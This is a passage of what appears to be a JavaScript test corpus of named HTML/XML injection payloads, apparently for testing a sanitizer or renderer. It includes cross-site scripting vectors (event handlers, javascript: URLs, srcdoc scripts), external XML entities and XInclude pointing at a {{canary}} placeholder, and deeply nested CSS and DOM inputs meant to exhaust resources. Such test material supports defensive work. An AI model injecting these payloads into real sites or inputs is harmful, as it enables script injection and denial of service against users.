      )}<style>@keyframes a{to{opacity:.9}}</style><marquee onstart="alert(12)" onbounce="alert(13)">m</marquee><body onpagehide="alert(14)" onhashchange="alert(15)" onmessage="alert(16)" onbeforeunload="alert(17)">`,
  },
  {
    name: 'XML: sheets, transformations and defaults of attributes',
    payload: `<?xml version="1.0"?><?xml-stylesheet href="{{canary}}/1" type="text/css"?><?xml-stylesheet href="data:text/css,*{background:url({{canary}}/2)}" type="text/css"?><!DOCTYPE html [<!ENTITY e SYSTEM "{{canary}}/3"><!ENTITY s "&#60;script xmlns='http://www.w3.org/1999/xhtml'&#62;alert(1)&#60;/script&#62;"><!ATTLIST img onerror CDATA "alert(2)"><!ATTLIST a href CDATA "javascript:alert(3)">]><html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:xlink="http://www.w3.org/1999/xlink"><head><base href="{{canary}}/"/><style><![CDATA[@import "{{canary}}/4";]]></style></head><body ev:event="load" ev:handler="javascript:alert(4)">&s;<xi:include href="{{canary}}/5" parse="text"/><img src="{{canary}}/6"/><a>a</a><p xlink:type="simple" xlink:href="{{canary}}/7" xlink:show="embed" xlink:actuate="onLoad">p</p><iframe srcdoc="&lt;script>alert(5)&lt;/script>"/><?php x?><?import namespace="t" implementation="{{canary}}/8"?><![CDATA[<script>alert(6)</script>]]></body></html>`,
  },
  {
    name: 'Deep and long: nested selectors, functions, roots and frames',
    payload: `<p id="p">p</p><div id="d"></div><script>const s=document.createElement('style');s.textContent='p,i{&,& &,.a &{'.repeat(4)+'background:url({{canary}}/1)'+'}'.repeat(8)+':is('.repeat(3000)+'p'+')'.repeat(3000)+'{background:url({{canary}}/2)}p{width:'+'calc(1px + '.repeat(3000)+'1px'+')'.repeat(3000)+';--x:'+'('.repeat(20000)+';background:url({{canary}}/3)}'+'@scope('.repeat(500)+'q{background:'+'if(else:'.repeat(600)+'url({{canary}}/4)'+')'.repeat(600)+'}';document.head.append(s);const t=document.createElement('style');t.textContent=Array.from({length:30},(_,n)=>':root{--v'+n+':var(--v'+(n-1)+',url({{canary}}/5))var(--v'+(n-1)+')}').join('')+'p{background:var(--v29);x:'+'{['.repeat(5000)+'}';document.head.append(t);
      let at=d;for(let n=0;n<120;n++){const e=document.createElement('div');at.append(e);at=e.attachShadow({mode:n%2?'open':'closed'});at.innerHTML='<style>:host{background:url({{canary}}/6)}</style>'}at.innerHTML='<img src="{{canary}}/7" onerror="alert(1)">';let html='<script>alert(2)<\\/script>';for(let n=0;n<8;n++)html='<iframe srcdoc="'+html.replaceAll('&','&amp;').replaceAll('"','&quot;')+'"></iframe>';d.insertAdjacentHTML('afterend',html);p.id='x'.repeat(1<<20);p.className='\\ud800 '.repeat(50000);p.title='\\u202e</p><script>alert(3)<\\/script>'.repeat(2000);p.setAttribute('style','--y:'+'url('.repeat(50000)+'{{canary}}/8');p.setAttribute('data-'+'z'.repeat(1<<19),'javascript:alert(4)')</script>`,
  },
];
